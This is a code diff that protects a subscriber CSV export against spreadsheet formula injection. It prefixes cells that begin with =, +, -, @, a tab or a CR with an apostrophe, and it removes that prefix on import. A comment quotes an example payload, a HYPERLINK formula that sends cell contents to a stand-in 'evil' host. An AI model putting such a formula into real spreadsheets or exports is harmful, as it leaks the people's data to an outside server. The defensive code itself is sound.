@@ -44,6 +44,21 @@ def to_json(readers: Iterable[Subscriber]) -> str:
     return json.dumps([subscriber_record(r) for r in readers], indent=2, ensure_ascii=False) + "\n"
 
 
+# A spreadsheet runs a cell that starts with = + - @ (or a tab or CR) as a formula, and a
+# reader's name comes from the sign-up form ('=HYPERLINK("http://evil/?"&A1)'). Such cells
+# are written after a ' (OWASP's advice), which spreadsheets hide and from_csv removes.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _inert(value: Any) -> Any:
+    return "'" + value if isinstance(value, str) and value.startswith(_FORMULA_START) else value
+
+
+def _as_written(value: Any) -> Any:
+    """A cell as ``to_csv`` was given it (see ``_inert``)."""
+    return value[1:] if isinstance(value, str) and value[:1] == "'" and value[1:].startswith(_FORMULA_START) else value
+
+
 def to_csv(readers: Iterable[Subscriber]) -> str:
     out = io.StringIO()
     writer = csv.writer(out, lineterminator="\n")
@@ -51,7 +66,8 @@ def to_csv(readers: Iterable[Subscriber]) -> str:
     for reader in readers:
         record = subscriber_record(reader)
         for topic in record["topics"]:
-            writer.writerow([record[c] for c in CSV_COLUMNS[:7]] + [topic["name"], topic["query"]])
+            writer.writerow([_inert(value) for value in
+                             [record[c] for c in CSV_COLUMNS[:7]] + [topic["name"], topic["query"]]])
     return out.getvalue()
 
 
@@ -116,6 +132,7 @@ def from_csv(text: str, origin: str, public: Mapping[str, Topic]) -> list[Subscr
                               where=f"{origin}:1")
     grouped: dict[str, tuple[dict, list[Topic], int]] = {}
     for row in reader:
+        row = {column: _as_written(value) for column, value in row.items()}
         where = f"{origin}:{reader.line_num}"
         email = (row.get("email") or "").strip().casefold()
         try:
